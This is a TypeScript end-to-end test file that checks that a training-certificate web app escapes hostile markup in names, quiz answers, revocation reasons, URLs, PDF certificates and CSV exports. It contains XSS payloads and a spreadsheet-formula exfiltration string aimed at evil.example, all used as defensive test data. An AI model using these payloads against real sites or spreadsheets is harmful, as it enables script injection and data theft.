/**
 * 3 (continued). HTML in what users type never executes. A trainee registers with the name
 * `<img src=x onerror=alert(1)><script>alert(1)</script>`, completes a course and gets a
 * certificate; an admin revokes it with a reason that is markup too. The account page, the
 * verify page, the quiz result and the admin page must show the markup as text: escaped in
 * the HTML, no dialog and no `img[src=x]` in a real browser (Chromium), and the PDF's text
 * (pdftotext) carries the name verbatim.
 */
import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Browser, BrowserContext } from 'playwright-core';
import { launchBrowser } from '../e2e/browser.ts';
import { courseInfo, donePath, passingForm, quizPath, randomKey } from './lib/courses.ts';
import { sessionCookieOf } from './lib/http.ts';
import { databaseFile, makeDataDir } from './lib/server.ts';
import { acceptAssignments } from '../helpers/accepted-work.ts';
import { createWorld, type World } from './lib/world.ts';

const NAME = '<img src=x onerror=alert(1)><script>alert(1)</script>';
const REASON = '<img src=x onerror=alert(2)><script>alert(2)</script> issued by mistake';
const ANSWER = '"><img src=x onerror=alert(3)>';
const urbanism = courseInfo('urbanism');

let w: World;
let browser: Browser;
let cookie: string;
let code: string;
let resultPath: string;

beforeAll(async () => {
  w = await createWorld('markup', { sessions: 2 });
  const res = await w.http.post('/en/register', {
    name: NAME,
    email: 'markup@oqu.test',
    password: 'amber-steppe-lantern-4',
    locale: 'en',
    consent: 'yes',
    region: '<b>Алматы</b>',
    organisation: '<script>alert(4)</script>',
  });
  expect(res.status, res.text.slice(0, 300)).toBe(303);
  // Registration signs no one in (docs/decisions/012): sign in with the chosen password.
  cookie = sessionCookieOf(
    await w.http.post('/en/login', { email: 'markup@oqu.test', password: 'amber-steppe-lantern-4' }),
  )!;
  // urbanism requires accepted work: written as a trainer's review leaves it.
  const file = `file:${databaseFile(w.dataDir)}`;
  await acceptAssignments(file, { email: 'markup@oqu.test' }, 'urbanism', urbanism.assignments);
  for (const lesson of urbanism.lessons) await w.http.post(donePath('urbanism', lesson), {}, { cookie });
  for (const q of Object.values(urbanism.quizzes)) {
    const form = passingForm(q.file, randomKey());
    const done = await w.http.post(quizPath('urbanism', q.lesson), form, { cookie });
    expect(done.status).toBe(303);
    resultPath = done.location!;
  }
  // One more attempt whose text answers are markup.
  const q = Object.values(urbanism.quizzes)[1]!;
  const form = passingForm(q.file, randomKey());
  for (const key of [...form.keys()])
    if (key.startsWith('q.') && q.file.questions.find((x) => `q.${x.id}` === key)?.type === 'text')
      form.set(key, ANSWER);
  const markupAttempt = await w.http.post(quizPath('urbanism', q.lesson), form, { cookie });
  expect(markupAttempt.status).toBe(303);
  resultPath = markupAttempt.location!;
  code = /\/verify\/([0-9A-Z]{4}-[0-9A-Z]{4}-[0-9A-Z]{4})/.exec(
    (await w.http.get('/en/account', { cookie })).text,
  )![1]!;
  browser = await launchBrowser();
});

afterAll(async () => {
  await browser?.close();
  await w?.close();
});

test('the markup is escaped in the HTML the server sends', async () => {
  const pages = {
    account: await w.http.get('/en/account', { cookie }),
    verify: await w.http.get(`/verify/${code}?lang=en`),
  };
  for (const [name, res] of Object.entries(pages)) {
    expect(res.status, name).toBe(200);
    // Inside a quoted attribute value `<` is inert (the form field keeps the name as typed);
    // anywhere else it must be escaped.
    const outsideAttributes = res.text.replace(/="[^"]*"/g, '=""');
    expect(res.text, name).not.toMatch(/="[^"]*"[^>\s]*onerror/); // no attribute broken out of
    expect(outsideAttributes, name).not.toContain('<img src=x');
    expect(outsideAttributes, name).not.toContain('<script>alert');
    expect(res.text, name).toContain('&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;alert(1)&lt;/script&gt;');
  }
  const credential = await w.http.get(`/certificates/${code}.json`);
  expect(String(credential.headers['content-type'])).not.toMatch(/html/);
  expect(String(credential.headers['x-content-type-options'])).toBe('nosniff');
});

test('the PDF carries the name as text, verbatim', async () => {
  const res = await w.http.get(`/certificates/${code}.pdf`);
  expect(res.status).toBe(200);
  const file = join(makeDataDir('markup-pdf'), 'certificate.pdf');
  writeFileSync(file, res.body);
  const text = execFileSync('pdftotext', ['-raw', file, '-'], { encoding: 'utf8' });
  const squeezed = (s: string) => s.replace(/\s+/g, '');
  console.log(
    `[hostile-markup] PDF ${res.body.length} bytes; pdftotext finds the name verbatim: ` +
      `${squeezed(text).includes(squeezed(NAME))}`,
  );
  expect(squeezed(text)).toContain(squeezed(NAME));
});

test("a name that is a spreadsheet formula is defused in the trainer's CSV export", async () => {
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
  const res = await w.http.post('/en/register', {
    name: formula,
    email: 'formula@oqu.test',
    password: 'amber-steppe-lantern-4',
    locale: 'en',
    consent: 'yes',
  });
  expect(res.status).toBe(303);
  const signedIn = await w.http.post('/en/login', { email: 'formula@oqu.test', password: 'amber-steppe-lantern-4' });
  await w.http.post(donePath('urbanism', urbanism.lessons[0]!), {}, { cookie: sessionCookieOf(signedIn) });
  const csv = await w.http.get('/en/trainer/courses/urbanism/trainees.csv', { cookie: w.cookie('trainer') });
  expect(csv.status).toBe(200);
  const line = csv.text.split('\r\n').find((l) => l.includes('HYPERLINK'));
  console.log(`[hostile-markup] CSV export line of the formula name: ${line}`);
  expect(line).toBeDefined();
  expect(line!.replace(/^"/, '')).toMatch(/^'=/);
});

async function visit(
  context: BrowserContext,
  paths: string[],
): Promise<{ dialogs: string[]; images: number; scripts: number; textShown: boolean[] }> {
  const page = await context.newPage();
  const dialogs: string[] = [];
  page.on('dialog', async (d) => {
    dialogs.push(`${page.url()}: ${d.message()}`);
    await d.dismiss();
  });
  let images = 0;
  let scripts = 0;
  const textShown: boolean[] = [];
  for (const path of paths) {
    await page.goto(new URL(path, w.server.baseURL).href, { waitUntil: 'load' });
    await page.waitForTimeout(100);
    images += await page.locator('img[src="x"]').count();
    scripts += await page.evaluate(
      () => [...document.scripts].filter((s) => /alert\(/.test(s.textContent ?? '')).length,
    );
    textShown.push((await page.evaluate(() => document.body.innerText)).includes('onerror=alert('));
  }
  await page.close();
  return { dialogs, images, scripts, textShown };
}

test('in Chromium: no dialog fires, no img[src=x] exists, the markup reads as text', async () => {
  // The admin revokes the certificate with a reason that is markup as well.
  const revoke = await w.http.post(
    '/en/admin/',
    { intent: 'revoke', code, reason: REASON },
    { cookie: w.cookie('admin') },
  );
  expect(revoke.status).toBe(200);

  const trainee = await browser.newContext();
  const [name, value] = cookie.split('=') as [string, string];
  await trainee.addCookies([{ name, value, url: w.server.baseURL }]);
  const traineePages = [
    '/en/account',
    '/kk/account',
    resultPath,
    `/verify/${code}?lang=en`,
    `/verify/${code}?lang=kk`,
    `/en/%3Cimg%20src=x%20onerror=alert(5)%3E`,
    `/verify/%3Cimg%20src=x%20onerror=alert(6)%3E`,
  ];
  const seen = await visit(trainee, traineePages);

  const admin = await browser.newContext();
  const [an, av] = w.cookie('admin')!.split('=') as [string, string];
  await admin.addCookies([{ name: an, value: av, url: w.server.baseURL }]);
  const adminSeen = await visit(admin, ['/en/admin/', `/verify/${code}?lang=en`]);

  console.log(
    `[hostile-markup] Chromium visited ${traineePages.length + 2} pages (account, quiz result, verify valid and ` +
      `revoked, 404s, admin): dialogs ${seen.dialogs.length + adminSeen.dialogs.length}, ` +
      `img[src=x] ${seen.images + adminSeen.images}, inline scripts with alert ${seen.scripts + adminSeen.scripts}; ` +
      `markup shown as text on account/verify: ` +
      `${[seen.textShown[0], seen.textShown[3], adminSeen.textShown[1]].join('/')}`,
  );
  expect([...seen.dialogs, ...adminSeen.dialogs]).toEqual([]);
  expect(seen.images + adminSeen.images).toBe(0);
  expect(seen.scripts + adminSeen.scripts).toBe(0);
  expect(seen.textShown[0], 'the name reads as text on My learning').toBe(true);
  expect(seen.textShown[3], 'the name reads as text on the verify page').toBe(true);
  expect(adminSeen.textShown[1], 'the revocation reason reads as text').toBe(true);
});
